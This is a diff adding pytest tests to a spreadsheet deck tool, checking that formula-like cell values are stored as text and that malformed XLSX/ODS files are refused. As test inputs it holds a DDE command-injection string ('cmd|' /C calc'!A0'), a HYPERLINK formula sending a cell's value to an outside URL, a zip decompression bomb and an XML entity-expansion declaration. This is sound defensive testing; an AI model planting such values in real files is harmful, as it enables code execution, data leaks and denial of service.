@@ -15,8 +15,8 @@ import pytest
 
 from rushmore_print.cli.commands import cli
 from rushmore_print.deck.manifest import validate_manifest
-from rushmore_print.deck.rows import card_rows
-from rushmore_print.deck.sheet_manifest import deck_tables, read_sheet_manifest
+from rushmore_print.deck.rows import card_rows, deck_tables
+from rushmore_print.deck.sheet_manifest import read_sheet_manifest
 from rushmore_print.errors import RushmoreError
 from rushmore_print.readers import spreadsheets
 from rushmore_print.readers.spreadsheets import SheetError, SheetFormat, Table, read_tables, write_tables
@@ -296,3 +296,231 @@ def test_a_sheet_on_standard_input_is_told_by_its_bytes(tmp_path, fmt):
     )
     assert judged.returncode == 0, judged.stderr
     assert b"16 Monuments, 39 Search cards checked" in judged.stdout
+
+
+FORMULA_DESIGN = """
+name: '=HYPERLINK("https://example.com/?"&A1,"open")'
+heads:
+  - {name: "=1+1", look: tied}
+  - {name: "+Jefferson", look: wavy}
+  - {name: "-Roosevelt", look: spectacles}
+  - {name: "@SUM(A1)", look: beard}
+directions: [{name: "=left", letter: L}, {name: "-right", letter: R}]
+search: {seed: 1927, red_counts: {0: 16, 1: 12, 2: 11}}
+"""
+
+
+def formulas_in(path):
+    """Every formula a spreadsheet program would find in the file: XLSX ``<f>`` elements, ODS
+    ``table:formula`` attributes, CSV cells that start as a formula does."""
+    kind = SheetFormat.of(path)
+    if kind is SheetFormat.CSV:
+        cells = [cell for row in csv.reader(io.StringIO(path.read_text("utf-8"))) for cell in row]
+        return [cell for cell in cells if cell.startswith(spreadsheets.FORMULA_STARTS)]
+    with zipfile.ZipFile(path) as archive:
+        xml = b"".join(archive.read(name) for name in archive.namelist() if name.endswith(".xml"))
+    if kind is SheetFormat.XLSX:
+        return re.findall(rb"<(?:\w+:)?f[ >/].{0,40}|fullCalcOnLoad=\"1\"", xml)
+    return re.findall(rb"table:formula=.{0,40}", xml)
+
+
+@pytest.mark.parametrize("fmt", FORMATS)
+def test_names_that_look_like_formulas_are_written_as_text_and_validate_back(runner, tmp_path, fmt, write_design):
+    """Issue 32.1: a design named ``=HYPERLINK(...)`` wrote a formula cell into a workbook set to
+    recalculate on open, which then failed its own validate (the cell read back empty)."""
+    design = write_design(FORMULA_DESIGN)
+    path = tmp_path / f"deck.{fmt}"
+    result = runner.invoke(cli, ["cards", str(design), "--format", fmt, "-o", str(path)])
+    assert result.exit_code == 0, result.output
+    assert formulas_in(path) == []
+    frame = [str(design)] if fmt == "csv" else []  # a CSV takes its heads from the design
+    result = runner.invoke(cli, ["validate", *frame, "--strict", "--manifest", str(path)])
+    assert result.exit_code == 0, result.output
+    assert "16 Monuments, 39 Search cards checked" in result.output
+    if fmt != "csv":
+        design_sheet = next(table for table in read_tables(path) if table.name == "design")
+        assert design_sheet.rows[:3] == (
+            ("design", '=HYPERLINK("https://example.com/?"&A1,"open")'),
+            ("heads", "=1+1", "+Jefferson", "-Roosevelt", "@SUM(A1)"),
+            ("directions", "=left", "-right"),
+        )
+
+
+@pytest.mark.parametrize("fmt", FORMATS)
+def test_every_formula_start_is_written_as_text_and_reads_back_the_same(tmp_path, fmt):
+    values = [f"{start}cmd|' /C calc'!A0" for start in spreadsheets.FORMULA_STARTS if start not in "\t\r\n"]
+    values += ["'=1", "''-2", "'M01", "M01", "-", "=", "@"]
+    table = Table("cards", (("id", "note"), *((f"M{n:02}", value) for n, value in enumerate(values, 1))))
+    path = tmp_path / f"notes.{fmt}"
+    path.write_bytes(write_tables([table], SheetFormat(fmt)))
+    assert formulas_in(path) == []
+    (read, *_) = read_tables(path)
+    assert read.rows == table.rows
+    if fmt == "xlsx":  # Excel keeps such a cell text when it is edited: the quote prefix style
+        book = openpyxl.load_workbook(path)
+        assert [book["cards"].cell(n, 2).quotePrefix for n in (2, 3)] == [True, True]
+        assert book["cards"].cell(len(values) - 2, 2).quotePrefix is False  # M01 needs none
+
+
+def rezipped(path, change):
+    """The zip at ``path`` rewritten with ``change(name, body) -> body`` applied to each member."""
+    with zipfile.ZipFile(path) as archive:
+        members = [(info.filename, archive.read(info)) for info in archive.infolist()]
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, body in members:
+            archive.writestr(name, change(name, body))
+    return path
+
+
+def cards_sheet_edited(path, edit):
+    """The XLSX at ``path`` with ``edit(xml) -> xml`` applied to its cards sheet's XML."""
+    return rezipped(path, lambda name, body: edit(body) if name == "xl/worksheets/sheet1.xml" else body)
+
+
+def test_an_xlsx_with_a_stale_dimension_is_read_whole(runner, tmp_path, classic_deck):
+    """Issue 32.2: a good deck whose writer left a stale ``A1`` dimension read as 0 cards."""
+    path = written(runner, tmp_path, "xlsx")
+    stale = rb'<dimension ref="A1"/>'
+    cards_sheet_edited(path, lambda xml: re.sub(rb"<dimension [^>]*>", stale, xml))
+    with zipfile.ZipFile(path) as archive:
+        assert stale in archive.read("xl/worksheets/sheet1.xml")
+    deck, findings, _ = read_sheet_manifest(path)
+    assert (deck.monuments, deck.search, findings) == (classic_deck.monuments, classic_deck.search, [])
+
+
+def test_a_card_in_a_row_past_the_dimension_is_read_and_judged(runner, tmp_path):
+    """Issue 32.2: a duplicated card in a row past the sheet's declared size was never read, and
+    the deck was called valid (Excel and LibreOffice show that row)."""
+    path = written(runner, tmp_path, "xlsx")
+    extra = (b'<row r="57"><c r="A57" t="inlineStr"><is><t>M99</t></is></c><c r="B57" t="inlineStr"><is><t>monument'
+             b'</t></is></c><c r="C57" t="inlineStr"><is><t>LLLL</t></is></c></row></sheetData>')  # fmt: skip
+    cards_sheet_edited(path, lambda xml: xml.replace(b"</sheetData>", extra))
+    report = validate_manifest(path)
+    assert not report.ok()
+    assert any("row 57" in str(finding) and "M99" in str(finding) for finding in report.errors), report.errors
+
+
+def test_rows_past_the_limit_are_refused_whatever_the_dimension_says(runner, tmp_path):
+    """Issue 32.2: a million rows past the dimension passed unread instead of hitting the limit."""
+    path = written(runner, tmp_path, "xlsx")
+    rows = b"".join(b'<row r="%d"><c r="A%d" t="inlineStr"><is><t>x</t></is></c></row>' % (n, n)
+                    for n in range(57, spreadsheets.MOST_ROWS + 60))  # fmt: skip
+    cards_sheet_edited(path, lambda xml: xml.replace(b"</sheetData>", rows + b"</sheetData>"))
+    with pytest.raises(SheetError, match=f"sheet 'cards': more than {spreadsheets.MOST_ROWS:,} rows"):
+        read_tables(path)
+
+
+@pytest.mark.parametrize(
+    "rows, message",
+    [
+        (b'<row r="3"><c r="A3"><v>1</v></c></row><row r="2"><c r="A2"><v>2</v></c></row>',
+         "sheet 'cards': row 2 is listed after row 3; each row comes once, in order"),
+        (b'<row r="2"><c r="A2"><v>1</v></c></row><row r="2"><c r="A2"><v>2</v></c></row>',
+         "sheet 'cards': row 2 is listed after row 2"),
+        (b'<row r="2"><c r="B2"><v>1</v></c><c r="A2"><v>2</v></c></row>',
+         "sheet 'cards': cell A2 is listed after B2; each cell comes once, in order"),
+        (b'<row r="2"><c r="A7"><v>1</v></c></row>', "sheet 'cards', row 2, column : a cell of row 2 is named 'A7'"),
+        (b'<row r="2"><c r="A2" t="s"><v>99999</v></c></row>', "refers to shared text '99999', but the workbook has"),
+    ],
+    ids=["rows out of order", "a row twice", "cells out of order", "a cell in another row", "no such shared text"],
+)  # fmt: skip
+def test_rows_and_cells_that_claim_one_place_are_refused(tmp_path, rows, message):
+    """Two rows (or cells) claiming one place show one of them in a spreadsheet program; which one
+    is not for the reader to guess."""
+    path = tmp_path / "deck.xlsx"
+    path.write_bytes(write_tables([Table("cards", (("id", "notation", "level"),))], SheetFormat.XLSX))
+    cards_sheet_edited(path, lambda xml: xml.replace(b"</row>", b"</row>" + rows, 1))
+    with pytest.raises(SheetError) as info:
+        read_tables(path)
+    assert message in str(info.value)
+
+
+def lying(path, member, declared):
+    """The zip at ``path`` with ``member``'s size in its directory (and local header) changed to
+    ``declared`` bytes, its data left as it is: a member that lies about its size."""
+    data = bytearray(path.read_bytes())
+    with zipfile.ZipFile(path) as archive:
+        info = archive.getinfo(member)
+    name = member.encode()
+    local = info.header_offset
+    assert data[local + 30 : local + 30 + len(name)] == name
+    data[local + 22 : local + 26] = declared.to_bytes(4, "little")
+    (central,) = [m.start() for m in re.finditer(b"PK\x01\x02", data) if data[m.start() + 46 :].startswith(name)]
+    data[central + 24 : central + 28] = declared.to_bytes(4, "little")
+    path.write_bytes(bytes(data))
+    return path
+
+
+@pytest.mark.parametrize("fmt, member", [("ods", "content.xml"), ("xlsx", "xl/worksheets/sheet1.xml"),
+                                         ("xlsx", "xl/sharedStrings.xml"), ("xlsx", "xl/workbook.xml")])  # fmt: skip
+def test_a_member_that_lies_about_its_size_is_refused_in_bounded_memory(tmp_path, fmt, member):
+    """Issue 32.3: an ODS of 1 MB whose content.xml claims a few bytes inflated to 1 GB before
+    being cut (MemoryError after 13 s); members are now inflated in bounded pieces."""
+    import tracemalloc
+
+    path = tmp_path / f"liar.{fmt}"
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
+        archive.writestr("[Content_Types].xml", b"<Types/>")
+        archive.writestr(member, b"<a>" + b" " * 200_000_000 + b"</a>")  # 200 MB of spaces in 200 KB
+    lying(path, member, 1_000)
+    tracemalloc.start()
+    try:
+        with pytest.raises(SheetError) as info:
+            read_tables(path)
+        peak = tracemalloc.get_traced_memory()[1]
+    finally:
+        tracemalloc.stop()
+    assert str(info.value).startswith(f"{path}: ")
+    assert peak < 20_000_000, f"{peak:,} bytes at the peak"
+
+
+def test_a_member_packed_by_another_zip_method_is_refused(tmp_path):
+    path = tmp_path / "deck.ods"
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_BZIP2) as archive:
+        archive.writestr("content.xml", b"<a/>")
+    with pytest.raises(SheetError, match=r"its part 'content\.xml' is packed by zip method 12; spreadsheet programs"):
+        read_tables(path)
+
+
+def test_an_xlsx_declaring_an_entity_is_refused(runner, tmp_path):
+    path = written(runner, tmp_path, "xlsx")
+    laughs = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
+    rezipped(path, lambda name, body: laughs + body.split(b"?>")[-1] if name == "xl/workbook.xml" else body)
+    with pytest.raises(SheetError, match=r"xl/workbook\.xml line 1: declares a DOCTYPE or entity"):
+        read_tables(path)
+
+
+def test_an_ods_comment_on_a_cell_is_not_its_text(tmp_path):
+    path = tmp_path / "deck.ods"
+    path.write_bytes(write_tables([Table("cards", (("id", "notation"), ("M01", "LLLL")))], SheetFormat.ODS))
+    note = b"<office:annotation><text:p>checked by Ann</text:p></office:annotation><text:p>M01</text:p>"
+    rezipped(path, lambda name, body: body.replace(b"<text:p>M01</text:p>", note) if name == "content.xml" else body)
+    assert read_tables(path)[0].rows == (("id", "notation"), ("M01", "LLLL"))
+
+
+@pytest.mark.parametrize("fmt", ["xlsx", "ods"])
+@pytest.mark.parametrize("name, message", [("design", "two sheets are named 'design' and 'design'"),
+                                           ("", "a sheet has no name")])  # fmt: skip
+def test_sheets_without_a_name_or_sharing_one_are_refused(runner, tmp_path, fmt, name, message):
+    """Which of two sheets named ``design`` holds the heads is not for the reader to guess (found by
+    the spreadsheet fuzzer: the cards sheet renamed ``design`` was read as the design sheet)."""
+    path = written(runner, tmp_path, fmt)
+    old, new = (b'name="cards"', b'name="%s"' % name.encode()) if fmt == "xlsx" else (
+        b'table:name="cards"', b'table:name="%s"' % name.encode())  # fmt: skip
+    member = "xl/workbook.xml" if fmt == "xlsx" else "content.xml"
+    rezipped(path, lambda part, body: body.replace(old, new) if part == member else body)
+    with pytest.raises(SheetError, match=message):
+        read_tables(path)
+
+
+@pytest.mark.parametrize("fmt", ["xlsx", "ods"])
+def test_a_zip_of_a_version_zipfile_does_not_know_is_refused_by_name(runner, tmp_path, fmt):
+    """Found by the spreadsheet fuzzer: a damaged byte in a member's "version needed to extract"
+    raised NotImplementedError from zipfile, an internal error (exit 70)."""
+    path = written(runner, tmp_path, fmt)
+    data = bytearray(path.read_bytes())
+    central = data.index(b"PK\x01\x02")
+    data[central + 6] = 71  # version 7.1 needed to extract
+    path.write_bytes(bytes(data))
+    result = runner.invoke(cli, ["validate", "--manifest", str(path)])
+    assert result.exit_code == 1 and f"error: {path}: not a readable {fmt.upper()} file" in result.stderr, result.output
